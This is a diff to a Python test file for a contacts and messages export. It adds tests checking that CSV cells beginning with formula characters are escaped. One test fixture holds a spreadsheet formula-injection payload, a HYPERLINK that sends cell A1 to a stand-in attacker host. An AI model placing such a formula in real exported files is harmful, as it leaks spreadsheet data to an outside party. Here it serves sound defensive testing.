@@ -27,9 +27,10 @@ def test_zip_holds_json_and_csv():
         inbound = list(csv.DictReader(io.StringIO(archive.read("inbound_messages.csv").decode())))
     assert document["metadata"] == {"request": "RR/1"}
     assert document["contacts"][0]["name"] == "Zoé Martin"
+    assert document["contacts"][0]["mobile"] == "+33612345678", "JSON keeps the exact value"
     assert document["inbound_messages"][0]["received"] == "2026-03-26T10:00:00"
     assert document["leads"] == []
-    assert contacts == [{"id": "1", "name": "Zoé Martin", "mobile": "+33612345678", "opt_out": "True"}]
+    assert contacts == [{"id": "1", "name": "Zoé Martin", "mobile": "'+33612345678", "opt_out": "True"}]
     assert inbound == [{"body": "STOP", "received": "2026-03-26T10:00:00"}]
 
 
@@ -71,3 +72,12 @@ def test_formula_cells_of_list_escaped():
         escaped = escape_csv_formula(cell)
         assert not escaped.startswith(("=", "+", "-", "@", "\t", "\r")), escaped
         assert escaped.removeprefix("'") == cell
+
+
+def test_export_csv_escapes_formulas():
+    rows = [{"name": '=HYPERLINK("http://attacker.invalid/?"&A1)', "note": "@SUM(1)", "count": -3}]
+    text = rows_to_csv(rows)
+    row = next(csv.DictReader(io.StringIO(text)))
+    assert row["name"].startswith("'=")
+    assert row["note"] == "'@SUM(1)"
+    assert row["count"] == "-3", "numbers are values, not formulas"
